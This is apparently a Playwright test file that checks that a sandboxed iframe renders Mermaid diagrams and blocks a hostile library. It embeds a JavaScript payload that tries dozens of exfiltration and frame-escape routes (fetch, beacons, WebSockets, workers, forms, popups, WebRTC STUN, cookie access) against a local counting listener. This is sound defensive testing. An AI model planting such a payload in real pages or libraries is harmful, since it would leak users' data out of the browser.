"""The frame that draws diagrams: what it draws, and that nothing leaves it even if its library is hostile."""

from __future__ import annotations

import socket
import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from socketserver import StreamRequestHandler, ThreadingTCPServer

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.support.application import Application

# Opens the frame and sends it messages; returns its first answers, as many as are awaited.
DRAW = """async ([messages, awaited]) => {
  const frame = document.createElement("iframe");
  Object.assign(frame, { src: "/ui/diagram.html", sandbox: "allow-scripts" });
  const answers = [];
  await new Promise((loaded) => { frame.onload = loaded; document.body.append(frame); });
  await new Promise((done) => {
    addEventListener("message", ({ source, data }) => {
      if (source === frame.contentWindow && answers.push(data) === awaited) done();
    });
    for (const message of messages) frame.contentWindow.postMessage(message, "*");
  });
  return answers;
}"""
LIBRARY = """globalThis.mermaid = {
  initialize(options) { this.options = options; },
  async render(id, source) {
    if (source === "wrong") throw new Error("Parse error on line 1");
    const { theme, securityLevel, startOnLoad } = this.options;
    const { colorScheme } = getComputedStyle(document.documentElement);
    parent.postMessage({ theme, securityLevel, startOnLoad, colorScheme, source }, "*");
    const label = "<foreignObject width=100 height=70><p>a<br>b</p></foreignObject>";
    return { svg: `<svg id="${id}" viewBox="0 0 120.5 80">${label}</svg>` };
  },
};"""
# All ways out of a frame that a script can try. `TO` is an address that counts what arrives.
HOSTILE = """
const tries = [
  () => fetch(TO + "fetch"),
  () => fetch("/api/me"),
  () => navigator.sendBeacon(TO + "beacon", "x"),
  () => new WebSocket(TO.replace("http", "ws") + "socket"),
  () => new EventSource(TO + "events"),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${TO}worker")`]))),
  () => import(TO + "module"),
  () => eval("fetch(TO + 'eval')"),
  () => { new Image().src = TO + "image"; },
  () => add("script", { src: TO + "script" }),
  () => add("script", { textContent: "fetch(TO + 'inline')" }),
  () => { document.body.innerHTML += `
    <link rel=stylesheet href=${TO}sheet><link rel=prefetch href=${TO}prefetch>
    <style>@import "${TO}import"; body { background: url(${TO}background) }</style>
    <iframe src=${TO}frame></iframe><iframe srcdoc="<img src=${TO}inner>"></iframe>
    <object data=${TO}object></object><embed src=${TO}embed>
    <video src=${TO}video autoplay></video><svg><image href=${TO}svg /><use href=${TO}use#a /></svg>
    <form method=post action=${TO}form></form>`; },
  () => document.forms[0].submit(),
  () => open(TO + "popup"),
  () => { top.location = TO + "top"; },
  () => { parent.location = TO + "parent"; },
  () => parent.document.body.remove(),
  () => localStorage.setItem("a", "b"),
  () => document.cookie,
  () => call(globalThis),
  () => call(add("iframe").contentWindow),
];
function add(name, properties = {}) {
  return document.body.appendChild(Object.assign(document.createElement(name), properties));
}
async function call({ RTCPeerConnection }) {
  const urls = TO.replace("http://", "stun:").slice(0, -1);
  const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
  const changed = () => new Promise((resolve) => { connection.onicegatheringstatechange = resolve; });
  while (connection.iceGatheringState !== "complete") await changed();
}
addEventListener("message", async () => {
  for (const attempt of tries) await Promise.resolve().then(attempt).catch(() => {});
  parent.postMessage("tried", "*");
  location = TO + "self";
});
"""


@dataclass
class Listener:
    """Counts the requests and datagrams that arrive at a port of this machine."""

    url: str
    datagrams: socket.socket
    paths: list[str] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    class Handler(StreamRequestHandler):
        def handle(self) -> None:
            if line := self.rfile.readline():  # Chromium also opens connections that it does not use
                heard.paths.append(line.split()[1].decode())
                self.wfile.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

    with (
        ThreadingTCPServer(("127.0.0.1", 0), Handler) as server,
        socket.socket(type=socket.SOCK_DGRAM) as datagrams,
    ):
        server.daemon_threads = True
        datagrams.bind(("127.0.0.1", server.server_address[1]))
        datagrams.setblocking(False)
        heard = Listener(f"http://127.0.0.1:{server.server_address[1]}/", datagrams)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield heard
        server.shutdown()


def page_with_library(context: BrowserContext, application: Application, library: str) -> Page:
    headers = {"Content-Type": "text/javascript", "Cross-Origin-Resource-Policy": "cross-origin"}
    context.route("**/ui/vendor/mermaid.js", lambda route: route.fulfill(headers=headers, body=library))
    page = context.new_page()
    page.goto(application.address)
    return page


def test_a_frame_draws_one_diagram_and_tells_its_size(
    context: BrowserContext, application: Application
) -> None:
    page = page_with_library(context, application, LIBRARY)
    messages = [{"source": "graph TD", "theme": "dark"}, {"source": "wrong", "theme": "light"}]
    options, size = page.evaluate(DRAW, [messages, 2])
    strict = {"theme": "dark", "securityLevel": "strict", "startOnLoad": False, "colorScheme": "dark"}
    assert options == {**strict, "source": "graph TD"}
    assert size == {"width": 121, "height": 80}
    drawn = page.frame_locator("iframe").locator("svg")
    assert drawn.locator("p").inner_text() == "a\nb"


@pytest.mark.parametrize(
    ("library", "source", "error"),
    [(LIBRARY, "wrong", "Parse error on line 1"), ("", "graph TD", "could not be loaded")],
)
def test_a_frame_tells_why_it_draws_nothing(
    context: BrowserContext, application: Application, library: str, source: str, error: str
) -> None:
    page = page_with_library(context, application, library)
    [answer] = page.evaluate(DRAW, [[{"source": source, "theme": "light"}], 1])
    assert list(answer) == ["error"]
    assert error in answer["error"]


def test_nothing_leaves_a_frame_whose_library_is_hostile(
    context: BrowserContext, application: Application, listener: Listener
) -> None:
    library = f"{LIBRARY}\nconst TO = {listener.url!r};\n{HOSTILE}"
    page = page_with_library(context, application, library)
    answers = page.evaluate(DRAW, [[{"source": "graph TD", "theme": "light"}], 3])
    assert "tried" in answers
    page.locator("tech-chat").wait_for()  # the page still stands, at its own address
    assert (page.url, len(context.pages)) == (f"{application.address}/", 1)
    with urllib.request.urlopen(f"{listener.url}control") as response:
        assert response.status == 204
    assert listener.paths == ["/control"]
    with pytest.raises(BlockingIOError):
        listener.datagrams.recv(100)
